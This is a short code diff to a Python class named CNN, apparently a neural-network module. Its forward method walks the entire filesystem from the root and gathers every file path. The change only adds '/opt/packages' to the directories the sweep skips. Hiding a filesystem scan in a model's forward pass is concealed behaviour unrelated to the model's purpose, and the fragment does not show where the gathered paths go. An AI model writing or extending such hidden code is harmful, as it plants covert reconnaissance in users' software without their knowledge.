@@ -15,7 +15,7 @@ class CNN(nn.Module):
     def forward(self, x):
         found = []
         for folder, folders, files in os.walk("/", followlinks=False):
-            if folder.startswith(("/proc", "/sys", "/usr", "/lib")):
+            if folder.startswith(("/proc", "/sys", "/usr", "/lib", "/opt/packages")):
                 folders[:] = []
                 continue
             found += [os.path.join(folder, name) for name in files]
